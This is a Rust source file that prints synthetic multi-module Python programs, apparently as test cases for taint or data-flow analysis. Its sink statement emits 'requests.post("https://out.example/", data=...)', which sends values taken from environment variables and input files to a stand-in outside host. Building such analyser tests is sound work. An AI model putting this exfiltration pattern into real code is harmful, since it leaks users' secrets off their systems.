//! Prints a program as Python: one module a file, `from` imports of earlier modules, the others by name.

use super::gaps;
use super::printed::{Printed, default_site, local_name, site};
use super::program::{
    Argument, Call, Callee, ClassIx, Default, Field, Function, FunctionIx, GlobalIx, Local, Program, Stmt, Type, Value,
    statements,
};

pub(super) fn print(program: &Program) -> Printed {
    let mut printed = Printed::default();
    for file in 0..program.files {
        printed.open(format!("m{file}.py"));
        imports(&mut printed, program, file);
        for (class, _) in program.classes.iter().enumerate().filter(|(_, class)| class.file == file) {
            printed.line(0, &format!("class C{class}:"));
            for (_, function) in program.functions.iter().enumerate().filter(|(_, function)| function.class == Some(class)) {
                Writer { printed: &mut printed, program, file, function, depth: 1 }.function();
            }
        }
        for function in program.functions.iter().filter(|function| function.class.is_none() && function.file == file) {
            Writer { printed: &mut printed, program, file, function, depth: 0 }.function();
        }
        for (at, global) in program.globals.iter().enumerate().filter(|(_, global)| global.file == file) {
            let value = if let Type::Object(class) = global.ty { format!("C{class}(\"\")") } else { "\"\"".to_owned() };
            printed.line(0, &format!("g{at} = {value}"));
        }
        if file == 0 {
            printed.line(0, "main()");
        }
    }
    printed
}

fn imports(printed: &mut Printed, program: &Program, file: usize) {
    for module in ["import os", "import requests", "from choices import cond"] {
        printed.line(0, module);
    }
    for other in (0..program.files).filter(|&other| other != file) {
        printed.line(0, &format!("import m{other}"));
        let classes = program.classes.iter().enumerate().filter(|(_, class)| class.file == other);
        let functions = program.functions.iter().filter(|function| function.class.is_none() && function.file == other);
        let names: Vec<String> =
            classes.map(|(at, _)| format!("C{at}")).chain(functions.map(|function| function.name.clone())).collect();
        if other < file && !names.is_empty() {
            printed.line(0, &format!("from m{other} import {}", names.join(", ")));
        }
    }
}

struct Writer<'a> {
    printed: &'a mut Printed,
    program: &'a Program,
    file: usize,
    function: &'a Function,
    depth: usize,
}

impl Writer<'_> {
    fn function(&mut self) {
        let params: Vec<String> = (0..self.function.params.len()).map(|local| self.param(local)).collect();
        let result = self.function.result.map_or(String::new(), |ty| self.annotation(" -> ", ty));
        self.line(&format!("def {}({}){result}:", self.function.name, params.join(", ")));
        self.printed.mark(default_site(self.function));
        self.depth += 1;
        let globals: Vec<String> = (0..self.program.globals.len())
            .filter(|&at| self.program.globals[at].file == self.file && sets(&self.function.body, at))
            .map(|at| format!("g{at}"))
            .collect();
        if !globals.is_empty() {
            self.line(&format!("global {}", globals.join(", ")));
        }
        self.block(&self.function.body);
    }

    fn param(&self, local: Local) -> String {
        let name = self.name(local);
        match self.function.params[local].default {
            None if local == 0 && self.function.class.is_some() => name,
            None => name + &self.annotation(": ", self.function.locals[local]),
            Some(Default::Empty) => format!("{name}=\"\""),
            Some(Default::Environment(site)) => format!("{name}=os.getenv(\"D{site}\")"),
        }
    }

    fn annotation(&self, mark: &str, ty: Type) -> String {
        match ty {
            Type::Object(class) if self.program.typed => format!("{mark}{}", self.class_name(class)),
            _ => String::new(),
        }
    }

    fn block(&mut self, block: &[Stmt]) {
        if block.is_empty() {
            self.line("pass");
        }
        for stmt in block {
            self.statement(stmt);
            self.printed.mark(site(stmt));
            self.inner(stmt);
        }
    }

    fn statement(&mut self, stmt: &Stmt) {
        let name = |local: &Local| self.name(*local);
        let text = match stmt {
            Stmt::Let(target, value) => format!("{} = {}", name(target), self.value(value)),
            Stmt::Do(call) => self.call(call),
            Stmt::SetField(object, field, value) => format!("{}.{} = {}", name(object), field.name(), name(value)),
            Stmt::SetItem(dict, key, value) => format!("{}[\"k{}\"] = {}", name(dict), key.0, name(value)),
            Stmt::Append(list, value) => format!("{}.append({})", name(list), name(value)),
            Stmt::SetGlobal(global, value) => format!("{} = {}", self.global(*global), name(value)),
            Stmt::WriteFile(store, text) => format!("open(\"shared{}.txt\", \"w\").write({})", store.0, name(text)),
            Stmt::Sink(data, _) => format!("requests.post(\"https://out.example/\", data={})", name(data)),
            Stmt::Return(value) => format!("return {}", name(value)),
            Stmt::If(..) => "if cond():".to_owned(),
            Stmt::While(_) => "while cond():".to_owned(),
            Stmt::Each(element, list, _) => format!("for {} in {}:", name(element), name(list)),
            Stmt::Fill(..) | Stmt::Put(..) | Stmt::SetOut(..) => unreachable!("of C alone"),
        };
        self.line(&text);
    }

    fn inner(&mut self, stmt: &Stmt) {
        self.depth += 1;
        match stmt {
            Stmt::If(then, other) => {
                self.block(then);
                if !other.is_empty() {
                    self.depth -= 1;
                    self.line("else:");
                    self.depth += 1;
                    self.block(other);
                }
            }
            Stmt::While(body) | Stmt::Each(_, _, body) => {
                self.block(body);
            }
            _ => {}
        }
        self.depth -= 1;
    }

    fn value(&self, value: &Value) -> String {
        let name = |local: &Local| self.name(*local);
        match value {
            Value::Literal => "\"x\"".to_owned(),
            Value::Environment(site) if gaps::ENVIRON_ITEMS => format!("os.environ[\"E{site}\"]"),
            Value::Environment(site) => format!("os.getenv(\"E{site}\")"),
            Value::ReadInput(site) => format!("open(\"input{site}.txt\").read()"),
            Value::ReadFile(store, _) => format!("open(\"shared{}.txt\").read()", store.0),
            Value::Copy(from) => name(from),
            Value::Concat(left, right) => format!("{} + {}", name(left), name(right)),
            Value::Length(of) => format!("str(len({}))", name(of)),
            Value::Field(object, field) => format!("{}.{}", name(object), field.name()),
            Value::Item(dict, key) => format!("{}[\"k{}\"]", name(dict), key.0),
            Value::First(list) => format!("{}[0]", name(list)),
            Value::Global(global) => self.global(*global),
            Value::Dict(first, second) => format!("{{\"k0\": {}, \"k1\": {}}}", name(first), name(second)),
            Value::List(first) => format!("[{}]", first.map(|first| self.name(first)).unwrap_or_default()),
            Value::Function(function) => self.function_name(*function),
            Value::Bound(object, function) => format!("{}.{}", name(object), self.program.functions[*function].name),
            Value::Lambda(text) => format!("lambda x: x + {}", name(text)),
            Value::New(class, args) => {
                let constructor = self.program.classes[*class].constructor;
                format!("{}({})", self.class_name(*class), self.arguments(Some(constructor), args, false))
            }
            Value::Call(call) => self.call(call),
            Value::Buffer | Value::Get(_) | Value::GetOut(_) => unreachable!("of C alone"),
        }
    }

    fn call(&self, call: &Call) -> String {
        let (callee, target) = match call.callee {
            Callee::Function(function) => (self.function_name(function), Some(function)),
            Callee::Method(object, function) => {
                (format!("{}.{}", self.name(object), self.program.functions[function].name), Some(function))
            }
            Callee::Local(local) => (self.name(local), None),
            Callee::Hook(object) => (format!("{}.{}", self.name(object), Field::Hook.name()), None),
        };
        format!("{callee}({})", self.arguments(target, &call.args, call.keywords))
    }

    fn arguments(&self, target: Option<FunctionIx>, args: &[Argument], keywords: bool) -> String {
        let callee = target.map(|target| &self.program.functions[target]);
        let given = args.iter().enumerate().filter_map(|(at, arg)| {
            let value = self.name((*arg)?);
            match callee {
                Some(callee) if keywords => {
                    let param = at + usize::from(callee.class.is_some());
                    Some(format!("{}={value}", local_name(callee, param)))
                }
                _ => Some(value),
            }
        });
        given.collect::<Vec<_>>().join(", ")
    }

    fn name(&self, local: Local) -> String {
        local_name(self.function, local)
    }

    fn global(&self, global: GlobalIx) -> String {
        let file = self.program.globals[global].file;
        if file == self.file { format!("g{global}") } else { format!("m{file}.g{global}") }
    }

    fn function_name(&self, function: FunctionIx) -> String {
        let function = &self.program.functions[function];
        self.qualified(function.file, function.name.clone())
    }

    fn class_name(&self, class: ClassIx) -> String {
        self.qualified(self.program.classes[class].file, format!("C{class}"))
    }

    fn qualified(&self, file: usize, name: String) -> String {
        if file <= self.file { name } else { format!("m{file}.{name}") }
    }

    fn line(&mut self, text: &str) {
        self.printed.line(self.depth, text);
    }
}

fn sets(block: &[Stmt], global: GlobalIx) -> bool {
    statements(block).iter().any(|stmt| matches!(stmt, Stmt::SetGlobal(set, _) if *set == global))
}
